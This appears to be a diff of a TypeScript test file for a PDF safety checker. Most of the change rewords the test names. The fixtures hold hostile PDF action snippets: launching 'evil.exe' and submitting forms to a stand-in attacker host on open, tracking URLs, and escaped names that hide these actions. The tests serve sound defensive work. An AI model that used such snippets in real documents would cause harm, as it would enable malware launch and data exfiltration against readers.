@@ -11,32 +11,38 @@ const opened = (action: string, ...more: string[]): Buffer =>
 describe('PDF actions behind indirect references or unusual spellings [sec L04]', () => {
   test.each<[string, Buffer]>([
     ['a link that starts a program', link('<< /S 12 0 R /F (evil.exe) >>', '/Launch')],
-    ['a program started when it opens', opened('<< /S 11 0 R /F (evil.exe) >>', '/Launch')],
-    ['a form that is sent', opened('<< /S 11 0 R /F (https://evil.example/take) >>', '/SubmitForm')],
-    ['another file', opened('<< /S 11 0 R /F (x.pdf) /D [0 /Fit] >>', '/GoToR')],
-    ['data that is imported', opened('<< /S 11 0 R /F (x.fdf) >>', '/ImportData')],
+    ['a program started when the document opens', opened('<< /S 11 0 R /F (evil.exe) >>', '/Launch')],
     [
-      'a film',
+      'a form submitted when the document opens',
+      opened('<< /S 11 0 R /F (https://evil.example/take) >>', '/SubmitForm'),
+    ],
+    ['another file opened with the document', opened('<< /S 11 0 R /F (x.pdf) /D [0 /Fit] >>', '/GoToR')],
+    ['data imported when the document opens', opened('<< /S 11 0 R /F (x.fdf) >>', '/ImportData')],
+    [
+      'a movie',
       makePdf({
         page: '/Annots [10 0 R]',
         objects: ['<< /Type /Annot /Subtype 11 0 R /Rect [0 0 9 9] /Movie << /F (x.avi) >> >>', '/Movie'],
       }),
     ],
-    ['an address opened with it', opened('<< /S /URI /URI (https://evil.example/track) >>')],
-    ['the same, its name spelled otherwise', opened('<< /#53 /U#52I /URI (https://evil.example/track) >>')],
+    ['a URL opened with the document', opened('<< /S /URI /URI (https://evil.example/track) >>')],
     [
-      'the same, its key spelled otherwise',
+      'a URL opened with the document through escaped names',
+      opened('<< /#53 /U#52I /URI (https://evil.example/track) >>'),
+    ],
+    [
+      'a URL opened with the document through an escaped key',
       makePdf({ catalog: '/Open#41ction 10 0 R', objects: ['<< /S /URI /URI (https://evil.example) >>'] }),
     ],
     [
-      'an address opened with a page',
+      'a URL opened with a page',
       makePdf({
         page: '/AA 10 0 R',
         objects: ['<< /O 11 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
       }),
     ],
     [
-      'an address opened after turning to a page',
+      'a URL opened after a jump to a page',
       opened('<< /S /GoTo /D [100 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'),
     ],
   ])('rejects %s [sec L04]', async (_, bytes) => {
@@ -49,10 +55,10 @@ describe('PDF actions behind indirect references or unusual spellings [sec L04]'
   });
 
   test.each<[string, Buffer]>([
-    ['a link to an address', link('<< /S 12 0 R /URI (https://firm.example) >>', '/URI')],
+    ['a link to a URL', link('<< /S 12 0 R /URI (https://firm.example) >>', '/URI')],
     ['opening at a page', makePdf({ catalog: '/OpenAction [100 0 R /Fit]' })],
-    ['turning to a page', opened('<< /S 11 0 R /D [100 0 R /Fit] >>', '/GoTo')],
-    ['showing the dialog for printing', opened('<< /S /Named /N /Print >>')],
+    ['jumping to a page', opened('<< /S 11 0 R /D [100 0 R /Fit] >>', '/GoTo')],
+    ['showing the print dialog', opened('<< /S /Named /N /Print >>')],
   ])('accepts %s', async (_, bytes) => {
     expect(await inspectFile('application/pdf', bytes)).not.toHaveProperty('reason');
   });
